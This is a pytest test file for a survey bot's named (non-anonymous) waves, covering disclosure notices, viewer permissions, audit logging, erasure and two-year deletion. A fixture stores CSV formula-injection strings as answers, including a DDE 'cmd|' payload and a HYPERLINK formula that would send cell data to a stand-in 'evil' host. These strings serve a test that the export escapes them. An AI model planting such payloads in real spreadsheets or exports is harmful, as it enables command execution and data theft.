"""Waves that keep names: they say so, their viewers read them, and whoever wants to be deleted is."""

import csv
import io
from collections.abc import Callable
from datetime import timedelta
from pathlib import Path

import pytest

from bot.domain.errors import InvalidInput, NotAllowed
from bot.domain.parts import Message, Part, plain
from bot.domain.people import Asker
from bot.domain.survey_waves import CountedAnew, ForOthers, NamesForOthers
from bot.presenters import pulse, pulse_courses, pulse_ends, pulse_listing, pulse_people, pulse_results
from bot.services import (
    Services,
    survey_answers,
    survey_attributed,
    survey_clock,
    survey_close,
    survey_export,
    survey_news,
    survey_people,
    survey_results,
    survey_waves,
)
from storage import audit, outbox, wave_results, waves
from storage.waves import StoredWave
from tests.services.survey_world import OWNER, World, people, world_in
from tests.services.test_survey_receipts import words_of


@pytest.fixture
def world(services: Services) -> World:
    return world_in(services)


def closed(world: World) -> StoredWave:
    row = world.open(mode="attributed")
    world.all_answer(row, [m.user_id for m in people(11)])
    world.answer(row, "U0001", goals="5", pride="declined", more="=HYPERLINK(1)")
    world.answer(row, "U0002", goals="5", more="-2+3+cmd|' /C calc'!A0")
    world.answer(row, "U0003", goals="5", more='+1+HYPERLINK("http://evil/?x="&A2,"see")')
    world.answer(row, "U0004", goals="5", more="-2")
    world.close()
    return row


def test_the_invitation_the_form_and_the_receipt_say_so_first(world: World) -> None:
    row = world.open(mode="attributed")
    with world.services.db.read() as connection:
        asked = [each.payload for each in outbox.everything(connection) if each.kind == "survey"]
    assert all("Not anonymous: your answers are kept with your name" in each for each in asked)
    sheet = survey_answers.sheet(world.services, "U0001", row.id)
    assert plain(pulse.above(sheet)[0]).startswith("Not anonymous: your answers are kept with your name")
    assert not any(each.name.endswith(".ask") for each in sheet.inputs), "they need no second way to be asked"
    kept = survey_answers.keep(world.services, "U0001", row.id, 1, {"goals": "5"})
    assert "It is kept with your name." in plain(pulse.receipt(kept)[1])


NAMED = "Only <U0OWNER>, <U0BOSS> may see who answered what."


def test_who_reads_the_names_is_said_before_anybody_answers(world: World) -> None:
    row = world.open(mode="attributed", channel="C0LEADERS", viewers="U0BOSS")
    opening = survey_waves.described(row, survey_waves.survey_of(row))
    assert [words_of(part) for part in pulse.results_go(opening)] == [
        "Results go to <C0LEADERS>; <U0OWNER>, <U0BOSS> may see them too.",
        NAMED,
    ]
    for payload in payloads(world, "U0001"):
        assert all(each in payload for each in ("C0LEADERS", "may see who answered what.", *opening.viewers))
    begun = " ".join(words_of(part) for part in pulse.started(opening, "UTC").parts)
    assert (
        "Results go to <C0LEADERS>; <U0OWNER>, <U0BOSS> may see them too. Answers are kept with names for two years, and "
        f"people are told so first. {NAMED}" in begun
    )
    sheet = survey_answers.sheet(world.services, "U0001", row.id)
    assert words_of(pulse.above(sheet)[0]).endswith(NAMED)
    shown = pulse_listing.shown(survey_results.standing(world.services, Asker("U0002"), "team-check"), "UTC")
    assert NAMED in [words_of(part) for part in shown.parts]


def test_in_a_channel_names_are_offered_to_nobody_and_refused_as_names(world: World) -> None:
    row = world.open(mode="attributed", channel="C0LEADERS", viewers="U0BOSS")
    world.all_answer(row, [m.user_id for m in people(11)])
    world.close()
    (posted,) = [each for each in payloads(world, "C0LEADERS") if "Close receipt" in each]
    assert "By people" not in posted
    petra = Asker("U0PETRA")
    for asker, offered in ((petra, False), (OWNER, True), (Asker("U0BOSS"), True)):
        found = survey_results.results(world.services, asker, "team-check", channel="C0LEADERS")
        assert ("By people" in "".join(map(plain, pulse_results.results(found).parts))) is offered
        assert survey_attributed.may_read(world.services, asker, "team-check", "1") is offered
    with pytest.raises(NamesForOthers) as refused:
        survey_attributed.answers(world.services, petra, "team-check", channel="C0LEADERS")
    assert refused.value.text == "Only @U0OWNER, @U0BOSS may see who answered what in team-check #1."
    assert refused.value.people == ("U0OWNER", "U0BOSS")
    with pytest.raises(ForOthers):
        survey_attributed.answers(world.services, petra, "team-check", channel="C0ELSE")
    assert len(survey_attributed.answers(world.services, Asker("U0BOSS"), "team-check", channel="C0LEADERS").people) == 11
    anonymous = world.open(channel="C0LEADERS")
    world.all_answer(anonymous, [m.user_id for m in people(11)])
    world.close()
    with pytest.raises(InvalidInput, match="team-check #2 keeps no names"):
        survey_attributed.answers(world.services, petra, "team-check", channel="C0LEADERS")


def test_once_somebody_was_deleted_only_those_who_read_names_see_results(world: World) -> None:
    """The message of the close stays in the channel: beside it, new results would tell what that person answered."""
    row = world.open(mode="attributed", channel="C0LEADERS", viewers="U0BOSS")
    world.all_answer(row, [m.user_id for m in people(11)])
    world.close()
    petra, reader = Asker("U0PETRA"), Asker("U0READER")
    before = world.services.now()
    with world.services.db.read() as connection:
        assert len(survey_news.since(connection, "C0LEADERS", [], before - timedelta(days=1), before)) == 1
    survey_people.erase(world.services, Asker("U0ADMIN", admin=True), "U0004")
    looks: list[Callable[[], object]] = [
        lambda: survey_results.results(world.services, petra, "team-check", channel="C0LEADERS"),
        lambda: survey_results.comments(world.services, petra, "team-check", channel="C0LEADERS"),
        lambda: survey_results.trend(world.services, petra, "team-check", channel="C0LEADERS"),
        lambda: survey_export.export(world.services, petra, "team-check", "csv", channel="C0LEADERS"),
        lambda: survey_attributed.answers(world.services, petra, "team-check", channel="C0LEADERS"),
    ]
    for look in looks:
        with pytest.raises(
            CountedAnew,
            match=r"^Only @U0OWNER, @U0BOSS may see the results of team-check #1: somebody was deleted since, and what changed",
        ):
            look()
    with world.services.db.read() as connection:
        assert survey_news.since(connection, "C0LEADERS", [], before - timedelta(days=1), before) == ()
    with pytest.raises(ForOthers):
        survey_results.results(world.services, reader, "team-check", channel="C0ELSE")
    assert survey_results.results(world.services, Asker("U0BOSS"), "team-check", channel="C0LEADERS").cells


def read(message: Message) -> str:
    return "\n".join(map(plain, message.parts))


def test_whoever_may_not_see_the_latest_any_more_hears_that_there_is_a_later_one(world: World) -> None:
    for mode in ("anonymous", "attributed"):
        world.all_answer(world.open(mode=mode, channel="C0LEADERS"), [m.user_id for m in people(11)])
        world.close()
    petra = Asker("U0PETRA")

    def told(number: str = "") -> str:
        return read(
            pulse_results.results(survey_results.results(world.services, petra, "team-check", number, channel="C0LEADERS"))
        )

    assert "is later" not in told()
    survey_people.erase(world.services, Asker("U0ADMIN", admin=True), "U0004")
    assert "team-check #2 is later, and its results are for others." in told()
    assert "is later" not in told("1")
    course = pulse_courses.trend(survey_results.trend(world.services, petra, "team-check", channel="C0LEADERS"))
    assert "team-check #2 is later, and its results are for others." in read(course)


def test_one_that_nobody_answered_says_so_and_thanks_nobody(world: World) -> None:
    world.open(mode="attributed", channel="C0LEADERS")
    said = read(pulse_ends.closed(survey_close.by_hand(world.services, OWNER, "team-check"), "UTC", may_see=True))
    world.clean()
    assert said.startswith("team-check #1 is closed: 0 of 12 answered (0%).\n")
    (posted,) = [each for each in payloads(world, "C0LEADERS") if "Close receipt" in each]
    assert "Nobody answered, so there is nothing to show of its questions." in posted
    thanked = [each for each in (said, *payloads(world, "C0LEADERS"), *payloads(world, "C0TEAM")) if "Thank you" in each]
    assert thanked == []


def test_what_is_shown_of_a_survey_are_the_terms_of_its_latest_wave(world: World) -> None:
    closed(world)
    shown = read(pulse_listing.shown(survey_results.standing(world.services, OWNER, "team-check"), "UTC"))
    assert "Not anonymous: your answers are kept with your name" in shown
    assert "unlinkable" not in shown


def payloads(world: World, whom: str) -> list[str]:
    with world.services.db.read() as connection:
        return [each.payload for each in outbox.everything(connection) if each.target == whom]


def test_its_viewers_read_who_answered_what_and_that_is_in_the_audit_log(world: World) -> None:
    row = closed(world)
    found = survey_attributed.answers(world.services, OWNER, "team-check")
    assert [user for user, _ in found.people] == [m.user_id for m in people(11)]
    assert found.people[0][1] == ("5", "prefers not to say", "", "", "=HYPERLINK(1)")
    rows = list(csv.reader(io.StringIO(survey_attributed.as_csv(found).decode("utf-8-sig"))))
    assert rows[0][:2] == ["person", "I know what we want to reach."]
    assert [cells[-1] for cells in rows[1:5]] == [
        "'=HYPERLINK(1)", "'-2+3+cmd|' /C calc'!A0", """'+1+HYPERLINK("http://evil/?x="&A2,"see")""", "-2"
    ]  # fmt: skip
    shown = "\n".join(plain(part) for part in pulse_people.people(found).parts)
    assert "I know what we want to reach.: 5" in shown
    with world.services.db.read() as connection:
        lines = [each.change for each in audit.entries(connection, "team-check #1")]
    assert [each.actor for each in lines if each.action == "survey.read_names"] == [OWNER.user_id]
    assert world.row(row.id).state == "closed"


def test_beside_its_comments_stands_that_their_writers_are_kept_and_for_whom(world: World) -> None:
    closed(world)
    shown = "\n".join(map(plain, pulse_results.comments(survey_results.comments(world.services, OWNER, "team-check")).parts))
    assert "Nothing tells who wrote what" not in shown
    assert "Who wrote what is kept with names for two years, for those alone whom its invitation named." in shown
    row = world.open()
    world.all_answer(row, [m.user_id for m in people(11)])
    world.answer(row, "U0001", goals="5", more="Fewer meetings.")
    world.close()
    shown = "\n".join(map(plain, pulse_results.comments(survey_results.comments(world.services, OWNER, "team-check")).parts))
    assert "Nothing tells who wrote what, or when." in shown


def test_nobody_else_reads_them_and_an_anonymous_wave_has_none(world: World) -> None:
    closed(world)
    for asker in (Asker("U0002"), Asker("U0ADMIN", admin=True)):
        with pytest.raises(NotAllowed):
            survey_attributed.answers(world.services, asker, "team-check")
    row = world.open()
    world.all_answer(row, [m.user_id for m in people(11)])
    world.close()
    with pytest.raises(InvalidInput, match="keeps no names"):
        survey_attributed.answers(world.services, OWNER, "team-check")
    assert len(survey_attributed.answers(world.services, OWNER, "team-check", "1").people) == 11


def test_whoever_wants_to_be_deleted_is_gone_from_it(world: World) -> None:
    closed(world)
    assert survey_people.erase(world.services, Asker("U0001")).attributed == 1
    assert "U0001" not in dict(survey_attributed.answers(world.services, OWNER, "team-check").people)


def test_what_is_left_is_counted_anew_so_that_nobody_follows_from_the_others_by_name(world: World) -> None:
    row = world.open(mode="attributed", channel="C0TEAM")
    points = [4, 5, 6, 7, 8, 9, 10, 10, 10, 10, 10]
    for number, point in enumerate(points, 1):
        world.answer(row, f"U{number:04}", goals="4", recommend=str(point), more="the same" if number < 3 else f"from {number}")
    world.close()
    assert enps(world) == pytest.approx(100 * (6 - 3) / 11, abs=0.01)
    survey_people.erase(world.services, Asker("U0004"))
    assert enps(world) == pytest.approx(100 * (6 - 3) / 10, abs=0.01)
    found = survey_results.results(world.services, OWNER, "team-check", channel="C0TEAM")
    receipt = world.row(row.id).receipt
    assert (receipt["invited"], receipt["opened"]) == (12, 11), "the receipt of the close is what it was"
    told = {"without": 1, "invited": 11, "opened": 10, "suppressed": 2, "suppressed_in_groups": 0, "suppressed_texts": 0}
    assert receipt["recount"] == told
    assert plain(pulse_results.results(found).parts[1]).startswith("10 of 11 answered (91%).")
    texts = sorted(each.text for each in survey_results.comments(world.services, OWNER, "team-check", channel="C0TEAM").found)
    assert texts == sorted(["the same"] * 2 + [f"from {n}" for n in range(3, 12) if n != 4])
    survey_people.erase(world.services, Asker("U0001"))
    with world.services.db.read() as connection:
        kept = [each.text for each in wave_results.comments(connection, row.id)]
    assert kept.count("the same") == 1, "what another wrote in the same words stays"
    for number in range(5, 10):
        survey_people.erase(world.services, Asker(f"U{number:04}"))
    found = survey_results.results(world.services, OWNER, "team-check", channel="C0TEAM")
    assert found.cells == {}, "of four nothing is counted, and their names stand there all the same"
    assert len(survey_attributed.answers(world.services, OWNER, "team-check").people) == 4
    shown = "\n".join(plain(part) for part in pulse_results.results(found).parts)
    assert "4 of 5 answered" in shown
    assert "12 invited, 11 opened, 2 figures suppressed, keys destroyed" in shown
    assert "Counted anew since, without 7 who were deleted: 4 of 5 answered, 4 figures suppressed." in shown
    assert "– is not shown" in shown, "all of it is marked so"


def test_a_wave_that_was_counted_anew_before_that_stood_beside_its_receipt_is_read_and_counted_anew(world: World) -> None:
    row = world.open(mode="attributed")
    world.all_answer(row, [m.user_id for m in people(11)])
    world.close()
    with world.services.db.begin() as connection:
        waves.erase_attributed(connection, row.id, "U0011")
        wave_results.forget_figures(connection, row.id)
        receipt = world.row(row.id).receipt | {"invited": 11, "opened": 10, "suppressed": 0}
        waves.change(connection, row.id, receipt={name: told for name, told in receipt.items() if "suppressed_" not in name})
    shown = "\n".join(plain(part) for part in results_of(world))
    assert "10 of 11 answered" in shown
    assert "11 invited, 10 opened, 0 figures suppressed, keys destroyed" in shown
    survey_people.erase(world.services, Asker("U0001"))
    shown = "\n".join(plain(part) for part in results_of(world))
    assert "11 invited, 10 opened, 0 figures suppressed, keys destroyed" in shown
    assert "Counted anew since, without 1 who was deleted: 9 of 10 answered," in shown


def results_of(world: World) -> tuple[Part, ...]:
    return pulse_results.results(survey_results.results(world.services, OWNER, "team-check")).parts


def test_how_many_answered_is_the_same_number_wherever_it_is_said(world: World) -> None:
    row = world.open(mode="attributed", channel="C0TEAM")
    world.invite_all(row)
    world.all_answer(row, [m.user_id for m in people(7)])
    ended = survey_close.by_hand(world.services, OWNER, "team-check")
    world.clean()
    number = "7 of 12 answered"
    assert number in plain(pulse_ends.closed(ended, "UTC", may_see=True).parts[0])
    assert "7 of 12 answered “Team check” (58%)" in plain(pulse_ends.thanks(ended).parts[0])
    found = survey_results.results(world.services, OWNER, "team-check", channel="C0TEAM")
    shown = [plain(part) for part in pulse_results.results(found).parts]
    assert shown[1].startswith(f"{number} (58%).")
    assert any("12 invited, 7 opened" in each for each in shown)
    assert "With fewer than ten answers no change is tested." in shown
    assert "Under 60% answered: those who did not may think otherwise." in " ".join(shown)
    rows = survey_export.as_data(found)["figures"]
    assert [each["value"] for each in rows if (each["question"], each["figure"]) == ("response", "answered")] == [7]
    survey_people.erase(world.services, Asker("U0007"))
    anew = survey_results.results(world.services, OWNER, "team-check", channel="C0TEAM")
    assert plain(pulse_results.results(anew).parts[1]).startswith("6 of 11 answered (55%).")


def test_without_names_few_are_a_band_wherever_they_are_told(world: World) -> None:
    row = world.open()
    world.invite_all(row)
    world.all_answer(row, [m.user_id for m in people(7)])
    world.close()
    shown = "\n".join(plain(part) for part in results_of(world))
    assert "5–9 of 12 answered" in shown
    assert "7 of 12" not in shown


def enps(world: World) -> float | None:
    found = survey_results.results(world.services, OWNER, "team-check", channel="C0TEAM")
    return found.cells["recommend"]["all"].value("enps")


def test_too_few_answers_are_kept_by_name_as_was_promised_and_no_figure_is_made_of_them(world: World) -> None:
    row = world.open(mode="attributed")
    world.all_answer(row, ["U0001", "U0002", "U0003"])
    ended = survey_close.by_hand(world.services, OWNER, "team-check")
    assert (ended.what, ended.answered) == ("closed", 3)
    world.clean()
    assert [user for user, _ in survey_attributed.answers(world.services, OWNER, "team-check").people] == [
        "U0001", "U0002", "U0003"
    ]  # fmt: skip
    found = survey_results.results(world.services, OWNER, "team-check")
    assert (found.cells, found.receipt["opened"]) == ({}, 3)
    shown = "\n".join(plain(part) for part in pulse_results.results(found).parts)
    assert "3 of 12 answered" in shown
    assert "12 invited, 3 opened, 4 figures suppressed and what people wrote, keys destroyed" in shown
    assert "– is not shown" in shown


def test_whoever_starts_and_ends_it_hears_that_it_keeps_names(world: World) -> None:
    row = world.open(mode="attributed")
    opening = survey_waves.described(row, survey_waves.survey_of(row))
    assert "Answers are kept with names for two years" in "".join(map(plain, pulse.started(opening, "UTC").parts))
    world.all_answer(row, [m.user_id for m in people(11)])
    ended = survey_close.by_hand(world.services, OWNER, "team-check")
    for told in (pulse_ends.closed(ended, "UTC", may_see=True), pulse_ends.thanks(ended)):
        words = "".join(map(plain, told.parts))
        assert "Who answered what is kept with names for two years" in words
        assert "figures of at least five" not in words


def test_nothing_of_it_is_left_in_the_file_of_the_database(world: World) -> None:
    row = world.open(mode="attributed")
    world.all_answer(row, [m.user_id for m in people(11)])
    world.answer(row, "U0001", goals="5", more="a canary in the mine")
    world.close()
    if not world.services.db.is_sqlite:
        pytest.skip("a server's files are its own")
    folder = Path(world.services.db.engine.url.database or "").parent
    survey_people.erase(world.services, Asker("U0001"))
    assert not any(b"a canary in the mine" in each.read_bytes() for each in folder.glob("barometer.db*"))


def test_after_two_years_it_is_deleted(world: World) -> None:
    row = closed(world)
    world.clock.on(days=730)
    survey_clock.run(world.services)
    with world.services.db.read() as connection:
        assert len(waves.attributed(connection, row.id)) == 11
    world.clock.on(seconds=1)
    survey_clock.run(world.services)
    with world.services.db.read() as connection:
        assert waves.attributed(connection, row.id) == {}
    assert world.clock.now - row.opens_at > timedelta(days=730)


def test_what_people_wrote_is_deleted_after_two_years_from_old_pages_too(world: World) -> None:
    row = world.open()
    world.all_answer(row, [m.user_id for m in people(11)])
    world.answer(row, "U0001", goals="5", more="a canary in the mine")
    world.close()
    receipt = world.row(row.id).receipt
    found = survey_results.comments(world.services, OWNER, "team-check").found
    assert [each.text for each in found] == ["a canary in the mine"]
    world.clock.on(days=730, seconds=1)
    survey_clock.run(world.services)
    assert survey_results.comments(world.services, OWNER, "team-check").found == ()
    assert not world.row(row.id).cleaned, "its old pages are still to be overwritten"
    world.clean()
    assert world.row(row.id).receipt == receipt
    survey_clock.run(world.services)
    assert world.row(row.id).cleaned, "and that is all"
    if world.services.db.is_sqlite:
        folder = Path(world.services.db.engine.url.database or "").parent
        assert not any(b"a canary in the mine" in each.read_bytes() for each in folder.glob("barometer.db*"))
